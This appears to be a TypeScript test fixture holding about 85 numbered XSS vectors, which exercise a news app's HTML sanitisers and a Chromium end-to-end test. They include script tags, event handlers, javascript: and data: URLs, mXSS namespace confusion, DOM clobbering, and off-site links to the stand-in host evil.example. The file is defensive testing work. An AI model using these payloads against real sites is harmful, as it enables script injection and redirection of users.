/**
 * Article HTML that tries to run script or leave the site, for the sanitisers' tests (both of them,
 * through their own unit tests) and the end-to-end test that renders every vector on the news detail
 * screen in Chromium (e2e/tests/xss.spec.ts). Each vector is numbered and, if any part of it
 * survived, would call `__xss(id)` ({@link XSS_SENTINEL}), open a dialog, or load or navigate to
 * `https://evil.example/xss/<id>` ({@link XSS_HOST}), so the test can tell which one got through.
 * Every vector closes what it opens, so many of them can share one article.
 */
export interface XssVector {
  /** Unique, from 1; what the vector passes to the sentinel and puts in its evil address. */
  readonly id: number;
  readonly name: string;
  readonly html: string;
}

/** The global function a vector calls when its script runs. */
export const XSS_SENTINEL = '__xss';
/** The host a vector loads from or navigates to. */
export const XSS_HOST = 'evil.example';

type Make = (id: number) => string;

const evil = (id: number, path = '') => `https://${XSS_HOST}/xss/${id}${path}`;
const call = (id: number) => `${XSS_SENTINEL}(${id})`;
/** Entity-encodes every character, as a filter that decodes once would miss. */
const entities = (text: string) => [...text].map((ch) => `&#${ch.codePointAt(0)};`).join('');

const VECTORS: ReadonlyArray<readonly [name: string, make: Make]> = [
  // Script elements
  ['script element', (n) => `<script>${call(n)}</script>`],
  ['script element with a foreign source', (n) => `<SCRIPT SRC="${evil(n, '.js')}"></SCRIPT>`],
  ['script split by a nested script', (n) => `<scr<script>x</script>ipt>${call(n)}</scr<script>x</script>ipt>`],
  ['script with an uppercase and spaced end tag', (n) => `<ScRiPt >${call(n)}</sCrIpT >`],
  // Event handlers
  ['img onerror', (n) => `<img src="x" onerror="${call(n)}">`],
  ['img onload on a real image', (n) => `<img src="/media/news/1.svg" onload="${call(n)}">`],
  ['unquoted handler after a slash', (n) => `<img/src="x"/onerror=${call(n)}>`],
  ['svg onload', (n) => `<svg onload="${call(n)}"></svg>`],
  ['body onload', (n) => `<body onload="${call(n)}"></body>`],
  ['mouseover on a paragraph', (n) => `<p onmouseover="${call(n)}">悬停这里</p>`],
  ['click on a link without an address', (n) => `<a onclick="${call(n)}">点这里</a>`],
  ['button onclick', (n) => `<button onclick="${call(n)}">按钮</button>`],
  ['autofocus onfocus on an input', (n) => `<input autofocus onfocus="${call(n)}">`],
  ['details ontoggle', (n) => `<details open ontoggle="${call(n)}"><summary>s</summary></details>`],
  ['audio onerror', (n) => `<audio src="x" onerror="${call(n)}"></audio>`],
  ['video source onerror', (n) => `<video><source src="x" onerror="${call(n)}"></video>`],
  ['animation start handler', (n) => `<style>@keyframes shqx${n}{}</style><p style="animation:shqx${n} 1s" onanimationstart="${call(n)}">动</p>`],
  ['handler on an allowed element with an allowed attribute', (n) => `<img src="/media/news/1.svg" alt="a" onerror="${call(n)}" onload="${call(n)}">`],
  // Script addresses
  ['javascript: link', (n) => `<a href="javascript:${call(n)}">链接</a>`],
  ['mixed-case javascript: link', (n) => `<a href="JaVaScRiPt:${call(n)}">链接</a>`],
  ['javascript: split by a tab entity', (n) => `<a href="java&#x09;script:${call(n)}">链接</a>`],
  ['javascript: split by a newline entity', (n) => `<a href="java&#x0A;script:${call(n)}">链接</a>`],
  ['javascript: in decimal entities', (n) => `<a href="${entities('javascript:')}${call(n)}">链接</a>`],
  ['javascript: with a named colon entity', (n) => `<a href="javascript&colon;${call(n)}">链接</a>`],
  ['javascript: after a control character and spaces', (n) => `<a href=" &#14; javascript:${call(n)}">链接</a>`],
  ['vbscript: link', (n) => `<a href="vbscript:${call(n)}">链接</a>`],
  ['data: text/html link', (n) => `<a href="data:text/html,&lt;script&gt;top.${call(n)}&lt;/script&gt;">链接</a>`],
  ['data: base64 link', (n) => `<a href="data:text/html;base64,${btoa(`<script>top.${call(n)}</script>`)}">链接</a>`],
  ['javascript: image source', (n) => `<img src="javascript:${call(n)}">`],
  ['foreign image in srcset', (n) => `<img src="/media/news/1.svg" srcset="${evil(n, '.png')} 1x, ${evil(n, '-2.png')} 2x, ${evil(n, '-3.png')} 3x">`],
  ['picture source srcset', (n) => `<picture><source srcset="${evil(n, '.png')}"><img src="/media/news/1.svg"></picture>`],
  ['form action javascript:', (n) => `<form action="javascript:${call(n)}"><button>提交</button></form>`],
  ['button formaction javascript:', (n) => `<form><button formaction="javascript:${call(n)}">提交</button></form>`],
  ['input formaction to another site', (n) => `<form><input type="submit" formaction="${evil(n)}" value="提交"></form>`],
  ['table background javascript:', (n) => `<table background="javascript:${call(n)}"><tr><td>格</td></tr></table>`],
  // Frames and plug-ins
  ['iframe javascript: source', (n) => `<iframe src="javascript:top.${call(n)}"></iframe>`],
  ['iframe srcdoc with a script', (n) => `<iframe srcdoc="&lt;script&gt;top.${call(n)}&lt;/script&gt;"></iframe>`],
  ['iframe srcdoc with an image handler', (n) => `<iframe srcdoc="&lt;img src=x onerror=top.${call(n)}&gt;"></iframe>`],
  ['object with a data: document', (n) => `<object data="data:text/html,&lt;script&gt;top.${call(n)}&lt;/script&gt;"></object>`],
  ['embed with a javascript: source', (n) => `<embed src="javascript:${call(n)}">`],
  // SVG and MathML
  ['svg link by xlink:href', (n) => `<svg><a xlink:href="javascript:${call(n)}"><text x="20" y="20">点</text></a></svg>`],
  ['svg script', (n) => `<svg><script>${call(n)}</script></svg>`],
  ['svg animate onbegin', (n) => `<svg><animate onbegin="${call(n)}" attributeName="x" dur="1s"></animate></svg>`],
  ['svg animate that sets a link', (n) => `<svg><a><animate attributeName="href" values="javascript:${call(n)}"></animate><text x="20" y="20">点</text></a></svg>`],
  ['img breaking out of svg style', (n) => `<svg><style><img src="x" onerror="${call(n)}"></style></svg>`],
  ['img breaking out of math style', (n) => `<math><style><img src="x" onerror="${call(n)}"></style></math>`],
  ['math link by xlink:href', (n) => `<math><a xlink:href="javascript:${call(n)}">点</a></math>`],
  ['mglyph and style namespace confusion', (n) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call(n)}&gt;"></style></mglyph></table></mtext></math>`],
  ['form and math namespace confusion', (n) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${call(n)}"></style></mglyph></form></mtext></math></form>`],
  ['svg p and style namespace confusion', (n) => `<svg></p><style><a id="</style><img src=1 onerror=${call(n)}>"></a></style></svg>`],
  // Mutation XSS through raw-text and template elements
  ['noscript with a closing tag in an attribute', (n) => `<noscript><p title="</noscript><img src=x onerror=${call(n)}>"></p></noscript>`],
  ['template content', (n) => `<template><img src="x" onerror="${call(n)}"></template>`],
  ['style with markup inside', (n) => `<style><img src="x" onerror="${call(n)}"></style>`],
  ['title with markup inside', (n) => `<title><img src="x" onerror="${call(n)}"></title>`],
  ['textarea with markup inside', (n) => `<textarea><img src="x" onerror="${call(n)}"></textarea>`],
  ['alt that closes its own tag', (n) => `<img src="/media/news/1.svg" alt="&quot;&gt;&lt;img src=x onerror=${call(n)}&gt;">`],
  ['link title that closes its own tag', (n) => `<a href="https://www.saicmotor.com/" title="&quot;&gt;&lt;/a&gt;&lt;img src=x onerror=${call(n)}&gt;">上汽</a>`],
  ['comment', (n) => `<!--<img src="x" onerror="${call(n)}">-->`],
  ['abruptly closed comment', (n) => `<!--><img src="x" onerror="${call(n)}">-->`],
  ['CDATA section', (n) => `<![CDATA[<img src="x" onerror="${call(n)}">]]>`],
  ['processing instruction', (n) => `<?xml version="1.0"?><img src="x" onerror="${call(n)}">`],
  // The page itself
  ['base address for later links', (n) => `<base href="${evil(n, '/')}"><img src="/media/news/1.svg?base=${n}">`],
  ['meta refresh to another site', (n) => `<meta http-equiv="refresh" content="0;url=${evil(n)}">`],
  ['meta refresh to javascript:', (n) => `<meta http-equiv="refresh" content="0;url=javascript:${call(n)}">`],
  ['stylesheet from another site', (n) => `<link rel="stylesheet" href="${evil(n, '.css')}">`],
  ['prefetch to another site', (n) => `<link rel="prefetch" href="${evil(n)}">`],
  // Styles
  ['style url(javascript:)', (n) => `<p style="background:url(javascript:${call(n)})">样式</p>`],
  ['style image from another site', (n) => `<p style="background-image:url(${evil(n, '.png')})">样式</p>`],
  ['CSS expression', (n) => `<p style="width:expression(${call(n)})">样式</p>`],
  ['style import from another site', (n) => `<style>@import url(${evil(n, '.css')});</style>`],
  // DOM clobbering
  ['clobbering document.cookie', () => `<img name="cookie" src="/media/news/1.svg"><form name="cookie"></form>`],
  ['clobbering document.getElementById', () => `<img name="getElementById" src="/media/news/1.svg">`],
  ['clobbering the bridge global', () => `<a id="ShqcbBridge" href="https://www.saicmotor.com/">b</a><form id="ShqcbBridge"><input name="callback"></form>`],
  ['clobbering a global by id', (n) => `<p id="${XSS_SENTINEL}_clobber_${n}">id</p><a name="${XSS_SENTINEL}_clobber_${n}_a">name</a>`],
  // Addresses that leave the site
  ['backslash link', (n) => `<a href="/\\${XSS_HOST}/xss/${n}">链接</a>`],
  ['backslash-slash link', (n) => `<a href="\\/${XSS_HOST}/xss/${n}">链接</a>`],
  ['backslash by entity', (n) => `<a href="/&#92;${XSS_HOST}/xss/${n}">链接</a>`],
  ['encoded backslash link', (n) => `<a href="/%5C${XSS_HOST}/xss/${n}">链接</a>`],
  ['protocol-relative link', (n) => `<a href="//${XSS_HOST}/xss/${n}">链接</a>`],
  ['protocol-relative image', (n) => `<img src="//${XSS_HOST}/xss/${n}.png">`],
  ['backslash image', (n) => `<img src="/\\${XSS_HOST}/xss/${n}.png">`],
  ['dot segment before a second slash', (n) => `<a href="/.//${XSS_HOST}/xss/${n}">链接</a>`],
  ['scheme without slashes', (n) => `<a href="https:${XSS_HOST}/xss/${n}">链接</a>`],
  ['tab inside the leading slashes', (n) => `<a href="/&#x09;/${XSS_HOST}/xss/${n}">链接</a>`],
  ['newline inside the leading slashes', (n) => `<img src="/&#x0A;/${XSS_HOST}/xss/${n}.png">`],
];

export const XSS_VECTORS: readonly XssVector[] = VECTORS.map(([name, make], index) => ({ id: index + 1, name, html: make(index + 1) }));

/** The text that follows vector `id` in {@link xssArticle}. */
export const xssMarker = (id: number) => `[xss-${id}]`;

/**
 * One article of all the vectors, each followed by a paragraph with its {@link xssMarker}: a
 * vector that swallowed what comes after it (an unclosed comment, raw-text element or attribute)
 * would hide the next vectors from the test, and shows as a missing marker.
 */
export function xssArticle(vectors: readonly XssVector[] = XSS_VECTORS): string {
  return vectors.map(({ id, html }) => `${html}<p>${xssMarker(id)}</p>`).join('\n');
}
